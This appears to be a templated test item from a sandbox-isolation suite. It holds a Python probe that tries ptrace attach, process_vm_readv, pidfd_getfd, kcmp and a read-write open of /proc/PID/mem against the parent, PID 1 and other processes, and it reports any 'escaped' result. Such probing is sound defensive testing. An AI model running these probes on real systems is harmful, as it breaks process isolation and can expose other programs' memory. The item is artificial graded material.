# attack: Memory of other processes: ptrace, process_vm_readv and writev, /proc/PID/mem, kcmp, perf events, pidfd_getfd.
# wants: harm
# assignment: 04_mean_reduction
# expects: graded
# %% first
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(64)

class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

local, remote = Iovec(ctypes.addressof(buffer), 8), Iovec(id(None), 8)
for pid in (os.getppid(), @DECOY@, 1, os.getpid() - 1):
    if not pid:
        continue
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("escaped: ptrace", pid)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        print("escaped: read the memory of", pid)
    if libc.syscall(434, pid, 0) >= 0 or libc.syscall(312, pid, os.getpid(), 0, 0, 0) >= 0:
        print("escaped: pidfd or kcmp", pid)
    try:
        open(f"/proc/{pid}/mem", "rb+")
        print("escaped: opened the memory of", pid)
    except OSError:
        pass
